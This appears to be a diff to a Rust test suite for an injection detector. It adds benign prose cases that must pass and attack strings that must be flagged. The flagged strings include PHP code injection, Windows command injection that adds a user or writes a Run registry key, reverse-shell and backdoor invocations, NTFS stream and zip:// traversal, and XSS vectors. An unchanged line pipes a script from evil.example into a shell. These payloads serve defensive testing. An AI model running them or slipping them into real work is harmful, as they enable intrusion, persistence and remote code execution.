@@ -1010,9 +1010,25 @@ fn wapiti_shapes() {
             "Dinner (team); // later",
             "Trade plan. Buy(100); sell later",
             "srcfile=report.js uploaded",
+            // (review: sentences, PHP static properties, XML in base64, wrappers named in prose)
+            "Mr. Smith (VIP); #",
+            "Entry. Stop(1.10); #",
+            "TODO. refresh(); //",
+            "self::$data reset",
+            "Cache::$data holds the quotes",
+            "data:application/xml;base64,PD94bWwgdmVyc2lvbj0iMS4wIj8+",
+            "read the raw body from php://input",
+            "phar:// archives disabled",
+            "hosting etc/services",
         ],
         Context::Auto,
     );
+    assert_attacks(
+        &["a;exit(md5(1));//x", "');print(md5(1));//", "';print(md5(1));$a='", "x;system(id);?>"],
+        Class::Cmdi,
+    );
+    assert_attacks(&["zip://uploads/a.zip#shell.php", "C:\\inetpub:$i30:$index_allocation", "admin:$I30:$INDEX_ALLOCATION", "index.php:x:$DATA"], Class::Traversal);
+    assert_attacks(&["test@x.com';exit(md5(1));//"], Class::Cmdi);
 }
 
 /// Short technical prose (package summaries from PyPI and npm, 926 000 of them measured in
@@ -1023,9 +1039,7 @@ fn tools_named_in_prose() {
         &[
             "A CLI & Python library to fetch real-time geo-data",
             "A fix for Poetry; Python dependency management and packaging made easy.",
-            "Discord SNEK Cog; Alias",
             "Curl like tool with AWS request signing",
-            "PowerShell grammar for tree-sitter",
             "Netcat with cmd exec, connect, listen and (local/remote) port-forwarding modes.",
             "Tool & python package for calculating genome wide pileup mappability",
             "五彩 Python API | python API for wucai",
@@ -1049,6 +1063,20 @@ fn tools_named_in_prose() {
             "a&copy C:\\x y",
             "; Whoami",
             "Curl http://evil.example/x.sh | sh",
+            // (review: Windows ignores case; a cut or extensionless script name; an entity
+            // that cmd.exe reads as `reg add`)
+            "127.0.0.1 & Net user hacker P@ss1 /add",
+            "127.0.0.1 & Hostname",
+            "127.0.0.1 | Ver",
+            "127.0.0.1 && Set",
+            "x; Id",
+            "Nslookup abc123.oast.fun",
+            "Certutil urlcache",
+            "127.0.0.1; python reverseshell.py",
+            "127.0.0.1 | php uploadedshell.php",
+            "127.0.0.1; python x",
+            "127.0.0.1; perl backdoor",
+            "x&reg;add HKCU\\Software\\Run /v x /d c:\\u.exe",
         ],
         Class::Cmdi,
     );
@@ -1061,6 +1089,10 @@ fn tools_named_in_prose() {
             "javascript:alert()",
             "x';eval(atob('YWxlcnQoMSk='));//",
             "window.open('//evil')",
+            "';void alert();//",
+            "\"-typeof alert()-\"",
+            "';throw print()//",
+            "${void alert()}",
         ],
         Class::Xss,
     );
